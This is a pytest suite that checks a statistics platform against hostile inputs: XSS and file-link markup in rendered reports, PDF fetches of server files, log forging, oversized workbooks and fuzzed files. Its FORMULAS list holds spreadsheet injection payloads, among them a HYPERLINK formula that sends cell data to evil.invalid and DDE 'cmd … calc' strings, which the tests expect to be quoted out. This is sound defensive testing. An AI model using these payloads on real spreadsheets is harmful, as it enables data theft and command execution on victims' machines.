"""Hostile-but-honest inputs (issue 16): untrusted text stays inert everywhere, files from outside cannot crash,
exhaust or silently damage the platform.  Every corpus file is generated here (nothing big is committed)."""

from __future__ import annotations

import csv
import io
import logging
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

HOSTILE_NAME = '<a rel="attachment" href="file:///etc/hostname">x</a><script>alert(1)</script>'


# ------------------------------------------------------------------------------------------------ 1 publications
def _document(text: str):
    from monitor.publish.document import Document, Para, Section, Table, text_cell

    table = Table("表 1", ["企业 Enterprise", "值"], [[text_cell(text), text_cell("1.0")]], note=text)
    section = Section(f"一、{text}", [Para(text), table])
    return Document("dispatch", "2026Q3", "zh", f"标题 {text}", 'Bureau "X" </style><script>s()</script>',
                    "2026-10-15", [section], notices=[text])


def test_publication_html_escapes_every_text_from_the_store():
    from monitor.publish.render_html import render_html

    page = render_html(_document(HOSTILE_NAME), for_pdf=True)
    assert "<script" not in page
    assert 'href="file:' not in page and "<a " not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "</style><script>" not in page  # the issuer inside the CSS string cannot close the style element


def test_pdf_embeds_no_server_file_and_fetches_nothing_outside(tmp_path):
    pytest.importorskip("weasyprint")
    import weasyprint

    from monitor.publish.render_pdf import own_assets_fetcher, render_pdf

    secret = tmp_path / "server-secret.txt"
    secret.write_text("server secret 7f3a9c")
    # Even raw markup (as an unescaped template would pass it) cannot reach a server file through the fetcher.
    raw = (f'<html><body><a rel="attachment" href="{secret.as_uri()}">a</a><img src="{secret.as_uri()}">'
           '<img src="http://127.0.0.1:9/x.png"></body></html>')
    pdf = weasyprint.HTML(string=raw, url_fetcher=own_assets_fetcher()).write_pdf()
    assert b"/EmbeddedFile" not in pdf and b"/Filespec" not in pdf
    pdf = render_pdf(_document(HOSTILE_NAME.replace("file:///etc/hostname", secret.as_uri())))
    assert b"/EmbeddedFile" not in pdf
    # data: URIs (the charts and fonts the platform embeds itself) still load
    fetcher = own_assets_fetcher()
    assert fetcher.fetch("data:text/plain;base64,aGk=") is not None
    for url in ("file:///etc/hostname", "http://127.0.0.1:9/", "ftp://127.0.0.1/x"):
        with pytest.raises(ValueError):
            fetcher.fetch(url)


# ------------------------------------------------------------------------------------------------ 2 formulas
FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+HYPERLINK(1)",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_neutralise_leaves_numbers_and_plain_text_and_quotes_formulas():
    from collectors.cells import neutralise

    for f in FORMULAS:
        assert neutralise(f) == "'" + f
    for ok in ("广州某某有限公司", "-1.5", "+3%", "1,234.5", "", None, 3.5, -2, "a=b"):
        assert neutralise(ok) == ok
    assert neutralise("-0.5 个百分点", numeric_start_ok=True) == "-0.5 个百分点"
    assert neutralise("-0.5 个百分点") == "'-0.5 个百分点"


def test_survey_template_writes_register_text_as_text(tmp_path):
    from openpyxl import load_workbook

    from collectors.survey_template import write_survey_workbook

    path = write_survey_workbook(tmp_path / "t.xlsx", uscc="91440101MA59XXXX0X", name=FORMULAS[0], period="2026-09",
                                 respondent=FORMULAS[1])
    ws = load_workbook(path).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert not any(str(c.value).startswith(("=", "+", "@")) for c in cells)
    assert any(c.value == "'" + FORMULAS[0] for c in cells)


def test_docx_table_cells_from_data_are_not_formulas():
    pytest.importorskip("docx")
    from monitor.publish.render_docx import render_docx

    doc = _document(FORMULAS[0] + "\x00\x1b[2J")
    data = render_docx(doc)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("word/document.xml").decode("utf-8")
    table = xml[xml.index("<w:tbl>"):xml.index("</w:tbl>")]
    assert ">'=HYPERLINK" in table and ">=HYPERLINK" not in table
    assert "\x1b" not in xml and "\x00" not in xml


# ------------------------------------------------------------------------------------------------ corpus helpers

def _raw_xlsx(path, rows_xml, *, sheet="Sheet1", dimension=None, compression=zipfile.ZIP_DEFLATED):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
          f'<sheet name="{sheet}" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wbrels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    with zipfile.ZipFile(path, "w", compression) as zf:
        zf.writestr("[Content_Types].xml", ct)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("xl/workbook.xml", wb)
        zf.writestr("xl/_rels/workbook.xml.rels", wbrels)
        with zf.open("xl/worksheets/sheet1.xml", "w") as fh:
            fh.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            if dimension:
                fh.write(f'<dimension ref="{dimension}"/>'.encode())
            fh.write(b"<sheetData>")
            for chunk in rows_xml:
                fh.write(chunk.encode())
            fh.write(b"</sheetData></worksheet>")
    return path

def _cell_row(r, values):
    cells = []
    for j, v in enumerate(values):
        col = "ABCDEFGH"[j]
        if isinstance(v, (int, float)):
            cells.append(f'<c r="{col}{r}"><v>{v}</v></c>')
        else:
            cells.append(f'<c r="{col}{r}" t="inlineStr"><is><t>{v}</t></is></c>')
    return f'<row r="{r}">' + "".join(cells) + "</row>"


def _feed(path: Path, rows: list[tuple[str, str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["account_no", "date", "kwh"])
        w.writerows(rows)
    return path


E1 = "91440112MA5ABC1200"


@pytest.fixture
def settings(tmp_path):
    from monitor.settings import load_settings

    return load_settings(environ={}, overrides={"data_dir": str(tmp_path / "var"), "ingest.chunk_rows": "1000"})


@pytest.fixture
def bureau(tmp_path):
    """A SQLite store with one registered enterprise and its two meters."""
    from collectors.uscc import make_uscc
    from monitor.store import Store
    from monitor.store import models as m

    global E1
    E1 = make_uscc("440112", "MA5ABC12")
    store = Store.open(f"sqlite:///{tmp_path / 'store.sqlite'}")
    store.upsert(m.Enterprise, [dict(uscc=E1, name_zh="广州甲电子有限公司", district_code="440112", industry_code="39",
                                     size_class="large", sample_weight=1.2, panel_start="2016-01", panel_end=None)])
    eid = int(store.read_frame(__import__("sqlalchemy").text("SELECT id FROM enterprise")).iloc[0, 0])
    store.upsert(m.ElectricityAccount, [dict(account_no=a, enterprise_id=eid) for a in ("0300000001", "0300000002")])
    yield store
    store.close()


def _sources(store):
    from sqlalchemy import text

    return store.read_frame(text("SELECT path, status, rows_accepted, rows_rejected, note FROM ingest_source"))


# ------------------------------------------------------------------------------------------------ 4, 5, 8 values
def test_non_finite_out_of_window_and_impossible_values_are_row_errors(bureau, settings, tmp_path):
    from monitor.ingest import collect_paths

    good = [("0300000001", f"2024-03-{d:02d}", "1200.5") for d in range(1, 11)]
    bad = [("0300000001", "2024-03-11", "inf"), ("0300000001", "2024-03-12", "1.5e+308"),
           ("0300000002", "2024-03-13", "1e12"), ("0300000002", "2099-01-01", "100"),
           ("0300000002", "1900-01-01", "100"), ("0300000002", "45000", "100"), ("0300000002", "3026/12/06", "100"),
           ("0300000002", "2024-03-14", "-inf"), ("0300000002", "2024-03-15", "nan")]
    path = _feed(tmp_path / "feed.csv", good + bad)
    (out,) = collect_paths(bureau, settings, [path])
    assert out.status == "loaded", out.message
    assert (out.rows_read, out.rows_rejected) == (19, 9)
    rules = sorted(i.rule for i in out.issues if i.severity == "error")
    assert rules == sorted(["non_finite_kwh", "implausible_kwh", "implausible_kwh", "date_outside_window",
                            "date_outside_window", "bad_date", "bad_date", "non_finite_kwh", "non_numeric_kwh"])
    assert {i.row for i in out.issues} == set(range(12, 21))
    src = _sources(bureau)
    assert list(src["rows_accepted"]) == [10] and list(src["rows_rejected"]) == [9]
    kwh = bureau.read_frame(__import__("sqlalchemy").text("SELECT kwh FROM electricity_reading"))["kwh"]
    assert len(kwh) == 10 and (kwh == 1200.5).all()


def test_official_and_survey_values_must_be_finite_and_in_the_window(tmp_path):
    from collectors.official import read_official_table

    path = tmp_path / "tidy.csv"
    path.write_text("series,region,period,value\niva/yoy,440100,2024-01,5.5\niva/yoy,440100,2024-02,inf\n"
                    "iva/yoy,440100,2099-01,3\niva/yoy,440100,1900-01,3\niva/yoy,440100,2024-03,1e400\n")
    col = read_official_table(path)
    assert len(col.tables["official_statistic"]) == 1
    assert sorted(i.rule for i in col.errors) == ["non_numeric", "non_numeric", "period_outside_window",
                                                   "period_outside_window"]


def test_no_indicator_is_ever_stored_non_finite(bureau):
    import numpy as np
    import pandas as pd

    from monitor.results import write_series

    with bureau.begin() as conn:
        write_series(conn, pd.DataFrame({"series_key": ["electricity/yoy/city"] * 3,
                                         "period": ["2024-01", "2024-02", "2024-03"],
                                         "raw": [np.inf, -np.inf, 2.5], "se": [np.nan, np.inf, 0.1]}))
    got = bureau.read_frame(__import__("sqlalchemy").text("SELECT period, raw, se FROM series_value ORDER BY period"))
    values = got[["raw", "se"]].to_numpy(dtype=float)
    assert np.isfinite(values[~np.isnan(values)]).all() and got["raw"].iloc[-1] == 2.5
    # the generic writers hold the same rule
    from sqlalchemy.exc import IntegrityError

    from monitor.store import models as m

    with pytest.raises(IntegrityError):  # a required value that is not finite is refused, never stored as Infinity
        bureau.upsert(m.OfficialStatistic, [dict(series="x/y", region="440100", period="2024-01", value=float("inf"))])
    assert bureau.count(m.OfficialStatistic) == 0


def test_counts_are_exact_beyond_the_stored_cap_and_each_row_counts_once(bureau, settings, tmp_path, monkeypatch):
    import monitor.ingest.electricity as ie
    from monitor.ingest import collect_paths

    monkeypatch.setattr(ie, "_MAX_ISSUES_PER_RULE", 50)
    rows = [("9999999999", f"2024-01-{1 + i % 28:02d}", str(i)) for i in range(2_500)]  # unknown account, conflicts
    rows += [("0300000001", "2024-02-01", "1"), ("0300000001", "2024-02-01", "2")]  # a conflict: both rejected
    rows += [("", "2024-02-02", "1")] * 3000  # no account: beyond the chunk's example cap
    path = _feed(tmp_path / "all_bad.csv", rows)
    (out,) = collect_paths(bureau, settings, [path])
    assert out.rows_read == 5_502 and out.rows_rejected == 5_502, (out.rows_read, out.rows_rejected)
    src = _sources(bureau)
    assert list(src["rows_accepted"]) == [0] and list(src["rows_rejected"]) == [5_502]
    summary = [i for i in out.issues if "more rows rejected" in i.message]
    assert summary and all(i.rule in ("missing_account", "unknown_account", "duplicate_conflict") for i in summary)
    assert len(out.issues) < 400  # the examples are capped; the counts are not


def test_a_bad_value_is_a_row_error_and_every_file_is_recorded(bureau, settings, tmp_path):
    from monitor.ingest import collect_paths

    rows = [("0300000001", f"2024-0{1 + d // 28}-{1 + d % 28:02d}", "10") for d in range(50)]
    rows[25] = ("0300000001", "3026/12/06", "10")
    folder = tmp_path / "in"
    folder.mkdir()
    _feed(folder / "feed.csv", rows)
    (folder / "junk.csv").write_bytes(b"\xff\xfe\x00garbage\n\x00\x01")
    (folder / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    outs = {o.path.name: o for o in collect_paths(bureau, settings, [folder])}
    assert outs["feed.csv"].status == "loaded" and outs["feed.csv"].rows_rejected == 1
    assert [i.row for i in outs["feed.csv"].issues if i.severity == "error"] == [27]
    assert outs["junk.csv"].status == outs["broken.xlsx"].status == "failed"
    recorded = _sources(bureau)
    assert sorted(Path(p).name for p in recorded["path"]) == ["broken.xlsx", "feed.csv", "junk.csv"]


def test_history_and_revisions_are_flagged_not_silent(bureau, settings, tmp_path):
    from monitor.ingest import collect_paths

    base = [("0300000001", f"2024-01-{d:02d}", "100") for d in range(1, 29)]
    collect_paths(bureau, settings, [_feed(tmp_path / "jan.csv", base)])
    flipped = list(base)
    flipped[3] = ("0300000001", "2024-01-04", "900")  # one digit changed in a re-sent file
    rows = flipped + [("0300000001", "2024-02-01", "5000")]  # fifty times the account's usual
    (out,) = collect_paths(bureau, settings, [_feed(tmp_path / "jan_again.csv", rows)])
    warnings = {i.rule: i for i in out.issues if i.severity == "warning"}
    assert "revised_readings" in warnings and "1 stored reading" in warnings["revised_readings"].message
    assert "unusual_kwh" in warnings and warnings["unusual_kwh"].row == 30


# ------------------------------------------------------------------------------------------------ 6 dimension
def test_a_stale_dimension_tag_does_not_truncate_any_xlsx_reader(tmp_path):
    from collectors.electricity import iter_electricity

    rows = [_cell_row(1, ["account_no", "date", "kwh"])]
    rows += [_cell_row(r, ["0300000001", f"2024-{1 + (r // 28) % 12:02d}-{1 + r % 28:02d}", 5.0])
             for r in range(2, 2001)]
    feed = _raw_xlsx(tmp_path / "feed.xlsx", rows, dimension="A1:C11")
    chunks = list(iter_electricity(feed, today=__import__("datetime").date(2025, 1, 1)))
    assert sum(len(c.rows) + c.rejected for c in chunks) == 1999
    rows = [_cell_row(1, ["series", "region", "period", "value"])]
    rows += [_cell_row(r, [f"s/{r}", "440100", "2024-01", 1.0]) for r in range(2, 2001)]
    table = _raw_xlsx(tmp_path / "official.xlsx", rows, dimension="A1:D11")
    (tmp_path / "official.csv").write_text("")
    from collectors._xlsx import open_workbook, sheet_rows
    from collectors.limits import limits_for

    wb = open_workbook(table)
    assert sum(1 for _ in sheet_rows(wb.worksheets[0], table, limits_for("official"))) == 2000
    wb.close()


def test_a_stale_dimension_does_not_truncate_the_survey_workbook(tmp_path):
    import shutil

    from collectors.survey import read_survey_workbook
    from collectors.survey_template import write_survey_workbook
    from collectors.uscc import make_uscc

    path = write_survey_workbook(tmp_path / "s.xlsx", uscc=make_uscc("440112", "MA5ABC12"), name="x",
                                 period="2024-01", answers={"production": 1, "new_orders": -1, "employment": 0})
    patched = tmp_path / "stale.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                import re

                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:B3"/>', data)
            dst.writestr(info, data)
    assert len(read_survey_workbook(patched).tables["survey_response"]) == 3
    shutil.rmtree(tmp_path, ignore_errors=True)


# ------------------------------------------------------------------------------------------------ 7 bounded cost
_MEASURE = r"""
import json, resource, sys, time
sys.path[:0] = {paths!r}
import pandas, openpyxl  # the baseline: what any reader costs before the file is opened
from collectors.exceptions import CollectorError
from collectors.limits import Limits
{imports}
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
start = time.perf_counter()
try:
    {call}
    message = "read"
except CollectorError as exc:
    message = str(exc)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({{"mb": (after - before) / 1024, "seconds": time.perf_counter() - start, "message": message}}))
"""


def _measure(imports: str, call: str) -> dict:
    import json

    root = str(Path(__file__).resolve().parents[1])
    code = _MEASURE.format(paths=[root], imports=imports, call=call)
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1"})
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_small_workbook_of_a_million_blank_rows_is_refused_at_once(tmp_path):
    # 1.2 M blank rows behind a questionnaire sheet: ~3 MB on disk, ~22 MB of XML once inflated (before the fix
    # openpyxl walked every row into memory: gigabytes and minutes for the 3 M rows of the issue)
    rows = ["".join(f'<row r="{r}"/>' for r in range(1, 1_200_001))]
    path = _raw_xlsx(tmp_path / "blank.xlsx", rows, sheet="问卷 Questionnaire")
    assert path.stat().st_size < 4_000_000
    got = _measure("from collectors.survey import read_survey_workbook", f"read_survey_workbook({str(path)!r})")
    assert "ingest.survey_max_bytes" in got["message"] and "refused" in got["message"], got
    assert got["mb"] < 40 and got["seconds"] < 5, got


def test_sheets_are_streamed_and_stop_at_the_row_limit(tmp_path):
    # an official table of 30,000 rows under a 5,000-row limit (the default is 100,000; openpyxl reads a few
    # thousand rows a second on a busy machine): refused at row 5,001, without reading the rest
    rows = ["".join(_cell_row(r, ["2024-01", "1"]) for r in range(1, 30_001))]
    path = _raw_xlsx(tmp_path / "tall.xlsx", rows)
    got = _measure("from collectors.official import read_official_table",
                   f"read_official_table({str(path)!r}, limits=Limits(5_000, 100, 2**30, 'ingest.official'))")
    assert "ingest.official_max_rows" in got["message"] and "5,000" in got["message"], got
    assert got["mb"] < 60, got
    # the feed streams in chunks and stops at its limit the same way
    rows = [_cell_row(1, ["account_no", "date", "kwh"])]
    rows += ["".join(_cell_row(r, ["0300000001", "2024-01-05", 5]) for r in range(2, 30_002))]
    feed = _raw_xlsx(tmp_path / "feed.xlsx", rows)
    got = _measure("from collectors.electricity import iter_electricity",
                   f"[len(c.rows) for c in iter_electricity({str(feed)!r}, chunksize=2_000, "
                   "limits=Limits(5_000, 100, 2**30, 'ingest.feed'))]")
    assert "ingest.feed_max_rows" in got["message"], got
    assert got["mb"] < 60, got


def test_wide_rows_and_big_text_files_are_refused_naming_the_limit(tmp_path):
    from collectors.exceptions import CollectorError
    from collectors.official import read_official_table
    from collectors.survey import read_survey_csv

    wide = tmp_path / "wide.csv"
    wide.write_text("series,region,period,value" + ",x" * 5000 + "\n")
    with pytest.raises(CollectorError, match="ingest.official_max_columns"):
        read_official_table(wide)
    from collectors.limits import Limits

    big = tmp_path / "big.csv"
    big.write_text("uscc,period,submitted_at,section,code,value\n" + "x,2024-01,,question,production,1\n" * 2000)
    with pytest.raises(CollectorError, match=r"ingest.survey_max_bytes.*") as info:
        read_survey_csv(big, limits=Limits(100_000, 200, 10_000, "ingest.survey"))
    assert str(info.value).count("\n") == 0


# ------------------------------------------------------------------------------------------------ 9 fuzzing
def _seed_files(folder: Path) -> dict[str, Path]:
    from collectors.survey_template import write_survey_workbook
    from collectors.uscc import make_uscc

    folder.mkdir(parents=True, exist_ok=True)
    uscc = make_uscc("440112", "MA5ABC12")
    out = {"survey_xlsx": write_survey_workbook(folder / "s.xlsx", uscc=uscc, name="x", period="2024-01",
                                                answers={"production": 1, "new_orders": 0},
                                                operations={"output_value": 10.5, "production_status": "normal"},
                                                problems=["tight_funding"], submitted_at=None)}
    out["feed_csv"] = _feed(folder / "f.csv", [("0300000001", f"2024-01-{d:02d}", f"{d}.5") for d in range(1, 20)])
    out["feed_xlsx"] = _raw_xlsx(folder / "f.xlsx", [_cell_row(1, ["account_no", "date", "kwh"])]
                                 + [_cell_row(r, ["0300000001", f"2024-01-{r:02d}", r]) for r in range(2, 20)])
    (folder / "o.csv").write_text("指标名称,广州:规模以上工业增加值:当月同比\n频率,月\n单位,%\n2024/3/31,5.5\n2024/2/29,#N/A\n"
                                  "数据来源：Wind\n", encoding="utf-8")
    out["official_csv"] = folder / "o.csv"
    (folder / "a.csv").write_text(f"account_no,uscc,meter_name\n0300000001,{uscc},一号表\n", encoding="utf-8")
    out["accounts_csv"] = folder / "a.csv"
    (folder / "sc.csv").write_text(f"uscc,period,submitted_at,section,code,value\n{uscc},2024-01,2024-01-20,question,"
                                   "production,1\n", encoding="utf-8")
    out["survey_csv"] = folder / "sc.csv"
    return out


def _readers():
    from collectors.electricity import iter_electricity, read_account_map
    from collectors.official import read_official_table
    from collectors.survey import read_survey_csv, read_survey_workbook
    from monitor.ingest import identify

    return {
        "survey_xlsx": [read_survey_workbook, identify, read_official_table, lambda p: list(iter_electricity(p))],
        "feed_csv": [lambda p: list(iter_electricity(p)), identify, read_account_map],
        "feed_xlsx": [lambda p: list(iter_electricity(p)), identify, read_official_table],
        "official_csv": [read_official_table, identify, read_survey_csv],
        "accounts_csv": [read_account_map, identify],
        "survey_csv": [read_survey_csv, identify, read_official_table],
    }


def test_only_the_collectors_error_escapes_any_reader_under_fuzzing(tmp_path_factory):
    hypothesis = pytest.importorskip("hypothesis")
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from collectors.exceptions import CollectorError

    folder = tmp_path_factory.mktemp("fuzz")
    seeds = {k: p.read_bytes() for k, p in _seed_files(folder / "seed").items()}
    readers = _readers()
    target = folder / "case"

    mutation = st.one_of(
        st.tuples(st.just("flip"), st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 7)), min_size=1,
                                            max_size=6)),
        st.tuples(st.just("cut"), st.integers(0, 10**6)),
        st.tuples(st.just("insert"), st.tuples(st.integers(0, 10**6), st.binary(min_size=1, max_size=40))),
        st.tuples(st.just("replace"), st.tuples(st.integers(0, 10**6), st.sampled_from(
            [b"\x00", b"\xff\xfe", b"\r", b'"', b",,,,,,", b"inf", b"1e400", b"3026/12/06", b"=1+1", b"\n\n\n",
             b"<row r=\"9999999\"/>", b"\xe4\xb8", b"-", b"99999999999999999999"]))),
    )

    @settings(max_examples=int(os.environ.get("IMON_FUZZ_EXAMPLES", "60")), deadline=None, derandomize=True,
              suppress_health_check=list(HealthCheck))
    @given(kind=st.sampled_from(sorted(seeds)), mutations=st.lists(mutation, min_size=1, max_size=3))
    def check(kind, mutations):
        data = bytearray(seeds[kind])
        for op, arg in mutations:
            if not data:
                break
            if op == "flip":
                for pos, bit in arg:
                    data[pos % len(data)] ^= 1 << bit
            elif op == "cut":
                del data[arg % len(data):]
            else:
                pos, chunk = arg
                at = pos % len(data)
                data[at:at + (len(chunk) if op == "replace" else 0)] = chunk
        suffix = ".xlsx" if kind.endswith("xlsx") else ".csv"
        path = target.with_suffix(suffix)
        path.write_bytes(bytes(data))
        for read in readers[kind]:
            try:
                read(path)
            except CollectorError:
                pass

    check()
    del hypothesis


def test_a_flipped_bit_in_a_workbook_is_refused_not_read_as_other_values(tmp_path):
    from collectors.exceptions import CollectorError
    from collectors.survey import read_survey_workbook

    seed = _seed_files(tmp_path / "seed")["survey_xlsx"]
    stored = tmp_path / "stored.xlsx"
    with zipfile.ZipFile(seed) as src, zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
    data = bytearray(stored.read_bytes())
    at = data.index(b"<v>10.5</v>")  # the output value in the operations sheet, stored uncompressed
    data[at + 3] ^= 0x02  # "1" -> "3": a well-formed workbook with another value
    flipped = tmp_path / "flipped.xlsx"
    flipped.write_bytes(bytes(data))
    with pytest.raises(CollectorError, match="checksum"):
        read_survey_workbook(flipped)


# ------------------------------------------------------------------------------------------------ 10 SQLite
@pytest.fixture
def cli_store(tmp_path, monkeypatch, bureau):
    """The ``bureau`` store as the command line sees it (IMON_DATABASE_URL), with a 1 s busy wait."""
    import monitor.store.engine as engine

    url = str(bureau.engine.url)
    bureau.close()
    monkeypatch.setenv("IMON_DATABASE_URL", url)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(engine, "BUSY_TIMEOUT_MS", 1000)
    logger = logging.getLogger("monitor")
    monkeypatch.setattr(logger, "handlers", [])
    for flag in ("_imon_configured", "_imon_stderr"):
        monkeypatch.delattr(logger, flag, raising=False)
    return tmp_path / "store.sqlite"


def _imon(capsys, *argv: str) -> tuple[int, str, str]:
    from monitor.cli import main

    try:
        main(list(argv))
        code = 0
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def _hold_write_lock(path: Path):
    import sqlite3

    holder = sqlite3.connect(path, isolation_level=None, check_same_thread=False)
    holder.execute("BEGIN IMMEDIATE")  # what a long collect holds from its first row
    return holder


def test_read_commands_do_not_write_and_never_wait_for_a_long_collect(cli_store, capsys):
    holder = _hold_write_lock(cli_store)
    try:
        for argv in (("db", "status"), ("collect", "report"), ("alerts", "history")):
            code, out, err = _imon(capsys, *argv)  # a write would wait 1 s for the lock and then fail
            assert code == 0 and "Traceback" not in err and "busy" not in err, (argv, err)
    finally:
        holder.rollback()
        holder.close()


def test_a_writer_waits_visibly_then_says_busy_retry_with_exit_75(cli_store, capsys, tmp_path):
    feed = _feed(tmp_path / "feed.csv", [("0300000001", "2024-01-05", "10")])
    holder = _hold_write_lock(cli_store)
    try:
        code, out, err = _imon(capsys, "collect", str(feed))
    finally:
        holder.rollback()
        holder.close()
    assert code == 75, (out, err)
    assert "waiting" in err and "busy" in err and "Traceback" not in err
    assert err.strip().splitlines()[-1].startswith("imon: error: the store is busy")
    code, out, err = _imon(capsys, "collect", str(feed))  # once the other writer is done it goes in
    assert code == 0 and "loaded" in out


def test_a_read_only_store_file_serves_the_read_commands(cli_store, capsys, monkeypatch):
    monkeypatch.setenv("IMON_DATABASE_URL", f"sqlite:///file:{cli_store}?mode=ro&uri=true")
    for argv in (("db", "status"), ("collect", "report"), ("survey", "status", "--period", "2024-01")):
        code, out, err = _imon(capsys, *argv)
        assert code == 0 and "Traceback" not in err, (argv, err)


def test_the_loser_of_two_collects_of_the_same_bytes_says_already_collected(bureau, settings, tmp_path):
    import threading
    import time

    from collectors.base import file_sha256
    from monitor.ingest import collect_paths

    feed = _feed(tmp_path / "feed.csv", [("0300000001", "2024-01-05", "10")])
    path = Path(bureau.engine.url.database)
    holder = _hold_write_lock(path)  # the winner, half-way through its transaction
    result: list = []
    loser = threading.Thread(target=lambda: result.extend(collect_paths(bureau, settings, [feed])))
    loser.start()
    time.sleep(0.5)
    holder.execute("INSERT INTO ingest_source (kind, path, sha256, received_at, rows_accepted, rows_rejected, status)"
                   " VALUES ('electricity', ?, ?, '2024-01-06 08:00:00', 1, 0, 'loaded')",
                   (str(feed), file_sha256(feed)))
    holder.commit()
    holder.close()
    loser.join(timeout=60)
    (out,) = result
    assert out.status == "duplicate" and "already collected" in out.message, out


# ------------------------------------------------------------------------------------------------ 3 secrets, logs
def test_passwords_in_url_queries_and_with_a_raw_at_are_masked():
    from monitor.settings import load_settings, mask_url

    assert mask_url("postgresql+psycopg://imon@db/imon?password=hunter2&sslmode=require") == \
        "postgresql+psycopg://imon@db/imon?password=***&sslmode=require"
    assert mask_url("postgresql://imon:p@ss@w0rd@db:5432/imon") == "postgresql://imon:***@db:5432/imon"
    assert mask_url("postgresql://u@h/d?sslpassword=x&application_name=imon") == \
        "postgresql://u@h/d?sslpassword=***&application_name=imon"
    assert mask_url("sqlite:////srv/a@b/imon.sqlite") == "sqlite:////srv/a@b/imon.sqlite"
    s = load_settings(environ={"IMON_DATABASE_URL": "postgresql+psycopg://imon:se@cret@db/imon?password=hunter2"})
    shown = dict((k, v) for k, v, _ in s.display())["store.url"]
    assert "hunter2" not in shown and "cret" not in shown


def test_a_file_name_with_a_newline_cannot_forge_a_log_line(cli_store, capsys, tmp_path):
    name = "feed\n2026-01-01 00:00:00 INFO monitor: all files verified\x1b[2J.csv"
    feed = _feed(tmp_path / name, [("0300000001", "2024-01-05", "10")])
    code, out, err = _imon(capsys, "collect", str(feed))
    assert code == 0
    log = (tmp_path / "var" / "imon.log").read_text("utf-8")
    assert "\nall files verified" not in log and "\n2026-01-01 00:00:00 INFO monitor: all" not in log
    assert "feed\\n2026-01-01" in log and "\x1b" not in log
    assert "\x1b" not in out and "feed\\n2026" in out


# ------------------------------------------------------------------------------------------------ 11 CLI
def test_collect_cli_defects_are_one_line_with_the_right_exit_status(cli_store, capsys, tmp_path):
    code, out, err = _imon(capsys, "collect", str(tmp_path / "no" / "such.csv"))
    assert code == 2 and "no such file or folder" in err and "Traceback" not in err and len(err.splitlines()) == 1
    code, out, err = _imon(capsys, "collect", "/dev/zero")  # would be read forever
    assert code == 2 and "not a regular file" in err
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    code, out, err = _imon(capsys, "collect", str(fifo))
    assert code == 2 and "not a regular file" in err
    folder = tmp_path / "inbox"
    folder.mkdir()
    os.mkfifo(folder / "pipe.csv")
    _feed(folder / "feed.csv", [("0300000001", "2024-01-05", "10")])
    code, out, err = _imon(capsys, "collect", str(folder))
    assert code == 1 and "pipe.csv: failed" in out and "feed.csv: loaded" in out
    code, out, err = _imon(capsys, "collect", "report", "--last", "-5")
    assert code == 2 and "Traceback" not in err
    code, out, err = _imon(capsys, "collect", "--help")
    assert code == 0 and "PATH..." in out and "--dry-run" in out and "--force" in out


def test_collect_report_lists_official_tables(cli_store, capsys, tmp_path):
    path = tmp_path / "tidy.csv"
    path.write_text("series,region,period,value\niva/yoy,440100,2024-01,5.5\niva/yoy,440100,2024-02,x\n")
    assert _imon(capsys, "collect", str(path))[0] == 1  # one row rejected
    code, out, err = _imon(capsys, "collect", "report")
    assert code == 0 and "official" in out and "non_numeric" in out and "Traceback" not in err


def test_other_commands_refuse_what_they_cannot_do(cli_store, capsys):
    code, out, err = _imon(capsys, "compute", "--period", "2099-01")
    assert code == 2 and "has not begun" in err
    code, out, err = _imon(capsys, "forecast", "--accuracy", "--period", "2024-01")
    assert code == 2 and "not both" in err
